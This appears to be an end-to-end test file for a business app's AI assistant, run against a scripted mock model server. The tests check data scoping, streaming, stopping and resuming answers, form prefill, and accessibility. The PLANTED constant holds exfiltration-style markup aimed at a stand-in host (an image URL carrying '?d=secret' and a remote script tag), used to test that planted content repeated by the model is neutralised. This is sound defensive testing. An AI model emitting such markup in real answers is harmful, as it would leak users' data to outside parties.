import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { startApp, type RunningApp } from '../support/app';
import { expectNoBarriers } from '../support/barriers';
import { closePages, comesToBe, launchBrowser, openAs } from '../support/browser';
import type { Persona } from '../support/company';
import { personasOf } from '../support/personas';

jest.setTimeout(240_000);

/** What a model may say that repeats what somebody planted in a record. */
const PLANTED = [
  'Planted: ![paid](https://outside.example/p.png?d=secret) <img src="https://outside.example/q.png"> <script src="https://outside.example/s.js"></script>',
  '[press](https://outside.example/go) [own](/leave)',
].join('\n\n');
const SLOW_WORDS = Array.from({ length: 40 }, (_, at) => `word${at + 1}`);
/** Between two words: long enough to do something meanwhile, however slow the machine. */
const WORD_MS = 250;

let app: RunningApp;
let browser: Browser;
const model = createServer((request, response) => void answerAsModel(request, response));

/** A provider that can be asked for what is planted and for slow words; of all else it knows nothing and fails. */
async function answerAsModel(request: IncomingMessage, response: ServerResponse): Promise<void> {
  let body = '';
  for await (const part of request) body += String(part);
  const { messages } = JSON.parse(body) as { messages: { role: string; content: string }[] };
  const asked = messages.findLast(({ role }) => role === 'user')?.content ?? '';
  if (!/planted|slowly/.test(asked)) return void response.writeHead(400).end('{}');
  response.writeHead(200, { 'content-type': 'text/event-stream' });
  const tell = (delta: object, finish_reason: string | null = null) =>
    response.write(
      `data: ${JSON.stringify({ id: 'x', object: 'chat.completion.chunk', created: 1, model: 'scripted', choices: [{ index: 0, delta, finish_reason }] })}\n\n`,
    );
  const words = asked.includes('planted') ? [PLANTED] : SLOW_WORDS.map((word) => `${word} `);
  for (const content of words) {
    if (response.destroyed) return;
    tell({ role: 'assistant', content });
    if (words.length > 1) await new Promise((resolve) => setTimeout(resolve, WORD_MS));
  }
  tell({}, 'stop');
  response.end('data: [DONE]\n\n');
}

beforeAll(async () => {
  await new Promise<void>((resolve) => model.listen(0, '127.0.0.1', resolve));
  const { port } = model.address() as AddressInfo;
  app = await startApp({
    demo: true,
    worker: false,
    env: { OPENAI_API_KEY: 'scripted', OPENAI_BASE_URL: `http://127.0.0.1:${port}/v1` },
  });
  browser = await launchBrowser();
}, 150_000);
afterAll(async () => {
  await browser?.close();
  await app?.stop();
  model.closeAllConnections();
  await new Promise((resolve) => model.close(resolve));
});
afterEach(async () => {
  await closePages(browser);
});

const open = (persona: Persona, path = '/assistant') => openAs({ app, browser }, persona, path);
const box = (page: Page) => page.getByRole('textbox', { name: 'Question' });
const turn = (page: Page, question: string) =>
  page.getByRole('article', { name: `Question: ${question}` });

/** Asks, and waits until the answer may be judged, which is when it is there whole. */
async function ask(page: Page, question: string) {
  await box(page).fill(question);
  await box(page).press('Enter');
  const answer = turn(page, question);
  await answer.getByRole('button', { name: 'Good answer', exact: true }).waitFor();
  return answer;
}

/** How many rows an answer's table has, of which the first leads to a page that is there. */
async function rowsOf(page: Page, question: string): Promise<number> {
  const answer = await ask(page, question);
  const rows = await answer.locator('tbody tr').count();
  await answer.locator('tbody a').first().click();
  await page.waitForURL((url) => !url.pathname.startsWith('/assistant'));
  await page.getByRole('heading', { level: 1 }).first().waitFor();
  await page.locator('[aria-busy="true"]').first().waitFor({ state: 'detached' });
  await comesToBe(() => page.getByText('Not found', { exact: true }).count(), 0);
  return rows;
}

test('one question has three answers: nothing, a team, everybody; and their rows lead to records', async () => {
  const rep = await open('sales.rep');
  const nothing = await ask(rep, 'What did Consulting spend by person this year?');
  expect(await nothing.locator('tbody tr').count()).toBe(0);
  expect(await nothing.getByRole('alert').count()).toBe(0);
  const team = await rowsOf(await open('sales.manager'), 'Show the expense claims of my team');
  const all = await rowsOf(await open('admin'), 'Show all expense claims');
  expect(team).toBeGreaterThan(0);
  expect(all).toBeGreaterThan(team);
});

test('an answer is stopped where it is, and what was said stays', async () => {
  const page = await open('sales.rep');
  await box(page).fill('Say it slowly');
  await box(page).press('Enter');
  await turn(page, 'Say it slowly').getByText('word2').waitFor();
  await page.getByRole('button', { name: 'Stop' }).click();
  await turn(page, 'Say it slowly').getByText('Stopped.').waitFor();
  await page.reload();
  await turn(page, 'Say it slowly').getByText('Stopped.').waitFor();
  const words = await turn(page, 'Say it slowly').innerText();
  expect(words).toContain('word1 word2');
  expect(words).not.toContain('word40');
});

test('an answer goes on over a reload, without a word lost or said twice', async () => {
  const page = await open('sales.rep');
  await box(page).fill('Tell me slowly');
  await box(page).press('Enter');
  await page.waitForURL(/\/assistant\/[0-9a-f-]{36}$/);
  await turn(page, 'Tell me slowly').getByText('word2').waitFor();
  await page.reload();
  const answer = turn(page, 'Tell me slowly');
  await answer.getByRole('button', { name: 'Good answer', exact: true }).waitFor();
  const said = await answer.locator('.message-text').innerText();
  expect(said.trim()).toBe(SLOW_WORDS.join(' '));
});

test('what is to be done opens as the real form, filled in, and nothing is sent', async () => {
  const page = await open('sales.rep');
  const rep = await personasOf(app).as('sales.rep');
  const sent = async () =>
    ((await rep.get('/approvals?box=sent&limit=200')).body as { items: unknown[] }).items.length;
  const before = await sent();
  const question = 'Apply for casual leave from 5 July 2027 to 6 July 2027';
  const answer = await ask(page, question);
  await answer.getByText('Nothing is sent until you send it there').waitFor();
  await answer.locator('a[href^="/requests/new/leave"]').click();
  await page.getByRole('heading', { level: 1, name: /leave/i }).waitFor();
  await comesToBe(() => page.getByLabel('First day').inputValue(), '5 Jul 2027');
  await comesToBe(() => page.getByLabel('Last day').inputValue(), '6 Jul 2027');
  expect(await sent()).toBe(before);
});

test('an answer with pictures, markup and links asks nobody outside for anything', async () => {
  const page = await open('sales.rep');
  const outside: string[] = [];
  page.on('request', (request) => {
    const url = new URL(request.url());
    if (url.protocol.startsWith('http') && url.origin !== app.url) outside.push(request.url());
  });
  const answer = await ask(page, 'Show what is planted');
  await answer.getByText(/^Planted:/).waitFor();
  await answer.getByRole('link', { name: 'own' }).waitFor();
  expect(await answer.locator('img, script, iframe, object, svg image').count()).toBe(0);
  expect(await answer.getByRole('link', { name: 'press' }).count()).toBe(0);
  expect(await answer.locator('a:not([href^="/"])').count()).toBe(0);
  await answer.getByText('<img src=').waitFor();
  await page.waitForLoadState('networkidle');
  expect(outside).toEqual([]);
});

test('an answer with a table and a chart, the reports and the administration have no barriers', async () => {
  const page = await open('sales.manager');
  const question = 'What did my team spend by month in the last two years?';
  const answer = await ask(page, question);
  await answer.getByRole('table').waitFor();
  await answer.getByRole('button', { name: 'What was looked up' }).click();
  await expectNoBarriers(page, 'assistant-answer');
  await answer.getByRole('button', { name: 'Save as report' }).click();
  const dialog = page.getByRole('dialog', { name: 'Save as report' });
  await dialog.getByRole('textbox', { name: 'Name' }).fill('Team spending');
  await dialog.getByRole('button', { name: 'Save' }).click();
  await page.getByRole('link', { name: 'Reports' }).click();
  await page.getByRole('link', { name: 'Team spending' }).waitFor();
  await expectNoBarriers(page, 'assistant-reports');
  await page.getByRole('link', { name: 'Team spending' }).click();
  await page.getByRole('heading', { level: 1, name: 'Team spending' }).waitFor();
  await page.getByRole('table').waitFor();
  const admin = await open('admin', '/admin/assistant');
  await admin.getByRole('checkbox').first().waitFor();
  await expectNoBarriers(admin, 'assistant-admin');
  await admin.getByRole('link', { name: 'Prompts' }).click();
  await admin.getByRole('row').filter({ hasText: question }).first().waitFor();
  await expectNoBarriers(admin, 'assistant-prompts');
});
